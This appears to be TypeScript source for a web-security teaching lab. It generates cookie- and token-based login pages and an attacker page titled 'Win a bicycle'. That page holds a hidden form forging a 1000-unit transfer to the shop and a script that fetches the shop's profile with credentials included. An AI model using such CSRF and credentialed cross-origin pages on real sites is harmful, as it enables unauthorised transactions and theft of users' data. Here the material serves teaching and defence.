/** The pages of the lab: plain HTML, with as much script as a page of its kind needs. */

const page = (title: string, body: string): string =>
  `<!doctype html><html lang="en"><meta charset="utf-8"><title>${title}</title><body>${body}</body></html>\n`;

const LOGIN_FIELDS =
  '<label>Name <input name="username" value="shivam"></label> <label>Password <input name="password" type="password" value="correct-horse"></label>';

const FORM = `<form method="post" action="/login">${LOGIN_FIELDS} <button id="login">Log in</button></form>`;

const LINKS =
  '<p><a id="profile" href="/profile">Profile</a></p><form method="post" action="/logout"><button id="logout">Log out</button></form>';

const TRANSFER =
  '<form method="post" action="/transfer"><label>To <input name="to" value="maya"></label> <label>Amount <input name="amount" value="10"></label> <button id="transfer">Send</button></form>';

/** Returns a page with a form, and links: what a server with cookies needs. */
const cookiePage = (title: string): string => page(title, `<h1>${title}</h1>${FORM}${LINKS}${TRANSFER}`);

/** Returns a page whose script stores a token in localStorage and sends it: what a server with tokens in a header needs. */
const tokenPage = (title: string, api: string): string =>
  page(
    title,
    `<h1>${title}</h1><p>${LOGIN_FIELDS}</p><p><button id="login">Log in</button> <button id="profile">Profile</button></p><pre id="out"></pre>
<script>
const api = ${JSON.stringify(api)};
const value = (name) => document.querySelector("[name=" + name + "]").value;
const show = (text) => { document.querySelector("#out").textContent = text; };
document.querySelector("#login").onclick = async () => {
  const body = JSON.stringify({ username: value("username"), password: value("password") });
  const answer = await fetch(api + "/login", { method: "POST", headers: { "Content-Type": "application/json" }, body });
  if (!answer.ok) return show(answer.status + " " + await answer.text());
  const { token } = await answer.json();
  localStorage.setItem("token", token);
  show("The token is in localStorage.");
};
document.querySelector("#profile").onclick = async () => {
  const headers = { Authorization: "Bearer " + localStorage.getItem("token") };
  const answer = await fetch(api + "/profile", { headers });
  show(answer.status + " " + await answer.text());
};
</script>`,
  );

export interface PageFacts {
  readonly usesHeader: boolean;
  /** Origin of the API, for a page that calls another origin; "": the page's own. */
  readonly api: string;
}

/** Returns the page at / and at /login. */
export function homePage({ usesHeader, api }: PageFacts): string {
  return usesHeader ? tokenPage("Log in", api) : cookiePage("Log in");
}

/** Returns the page of another site: a form, a picture and a fetch that all go to the shop. `shop`: its origin. */
export function evilPage(shop: string): string {
  return page(
    "Win a bicycle",
    `<h1>Win a bicycle</h1>
<form method="post" action="${shop}/transfer"><input type="hidden" name="to" value="maya"><input type="hidden" name="amount" value="1000"><button id="win">Win</button></form>
<p><a id="link" href="${shop}/profile">A link to the shop</a></p>
<p><button id="steal">Read the profile</button></p><pre id="out"></pre>
<script>
document.querySelector("#steal").onclick = async () => {
  const out = document.querySelector("#out");
  try {
    const answer = await fetch("${shop}/profile", { credentials: "include" });
    out.textContent = answer.status + " " + await answer.text();
  } catch (error) { out.textContent = String(error); }
};
</script>`,
  );
}
